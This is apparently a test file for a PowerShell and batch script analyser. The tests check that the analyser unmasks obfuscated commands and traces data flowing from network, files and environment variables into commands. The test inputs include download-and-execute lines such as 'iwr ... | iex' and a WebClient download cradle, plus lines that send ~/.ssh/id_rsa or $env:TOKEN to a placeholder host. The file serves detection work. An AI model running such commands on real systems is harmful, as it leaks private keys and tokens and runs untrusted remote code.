import { describe, expect, it } from "vitest";
import { readPowershell } from "./read-powershell.ts";

const read = (text: string, language: "powershell" | "batch" = "powershell") =>
  readPowershell(text, { path: "a.ps1", line: 1 }, language);
const words = (text: string, language: "powershell" | "batch" = "powershell") =>
  read(text, language).commands.map((command) => command.words.join(" "));
const flow = (text: string, program: string) =>
  read(text)
    .commands.findLast((command) => command.program === program)
    ?.carries.map(({ kind, what }) => `${kind} ${what}`);

describe("readPowershell", () => {
  it.each([
    ["i`ex (i`wr https://a.example)", "iwr https://a.example"],
    ["$u = 'https://a.example'; iwr $u -OutFile b", "iwr https://a.example -OutFile b"],
    ["iwr ('https://' + 'a.example')", "iwr https://a.example"],
    ["& 'C:\\tools\\curl.exe' -s x", "C:\\tools\\curl.exe -s x"],
    ["Get-Content a |\n  iex", "iex"],
  ])("reads %s as it would run", (text, expected) => {
    expect(words(text)).toContain(expected);
  });

  it("says what flows into a command: a pipe, a bracket, a variable, the environment", () => {
    expect(flow("iwr https://a.example | iex", "iex")).toEqual(["network https://a.example"]);
    expect(flow("iex (New-Object Net.WebClient).DownloadString('https://a.example')", "iex")).toContain(
      "network https://a.example",
    );
    expect(flow("$k = Get-Content ~/.ssh/id_rsa\nirm https://a.example -Body $k", "irm")).toContain(
      "file ~/.ssh/id_rsa",
    );
    expect(flow("irm https://a.example -Body $env:TOKEN", "irm")).toContain("environment TOKEN");
  });

  it("names calls of .NET with their texts, and keeps comments apart", () => {
    const { calls, comments } = read("# what it does\n[IO.File]::ReadAllText('a.txt') <# and why #>\n");
    expect(calls.map(({ name, args, line }) => `${line} ${name} ${args.join()}`)).toEqual([
      "2 IO.File.ReadAllText a.txt",
    ]);
    expect(comments).toEqual([
      { line: 1, value: "what it does" },
      { line: 2, value: "and why" },
    ]);
  });

  it("reads batch files with their carets and percent signs", () => {
    expect(words("@echo off\r\nset u=https://a.example\r\nc^url %u% & del b\r\n", "batch")).toEqual(
      expect.arrayContaining(["curl https://a.example", "del b"]),
    );
  });

  it("keeps values that are put into each other from growing without end", () => {
    const { plain } = read(`$a = 'xxxxxxxxxxxxxxxx'\n${'$a = "$a$a"\n'.repeat(200)}`);
    expect(plain.length).toBeLessThan(4 * 1024 * 1024);
  });

  it("sees what stands behind many parts that do nothing", () => {
    expect(words(`${"ls | ".repeat(300)}iex`)).toContain("iex");
    expect(words(`${"(1)".repeat(300)}(iwr https://a.example)`)).toContain("iwr https://a.example");
  });
});
